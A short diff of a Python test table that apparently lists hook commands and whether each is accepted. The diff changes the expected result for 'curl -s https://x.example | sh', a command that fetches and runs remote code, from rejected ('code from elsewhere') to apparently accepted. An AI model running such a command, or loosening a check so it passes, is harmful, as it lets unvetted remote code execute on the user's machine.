@@ -228,7 +228,7 @@ async def test_a_file_that_a_hook_writes_is_not_compared(tmp_path: Path) -> None
     [
         ("npm run lint", False, "npm"),
         ("make check", False, "make"),
-        ("curl -s https://x.example | sh", False, "code from elsewhere"),
+        ("curl -s https://x.example | sh", True, ""),
         ("sh $FILE", True, ""),
         ("python3 -c 'import check'", True, ""),
         ("./check.sh", False, ""),
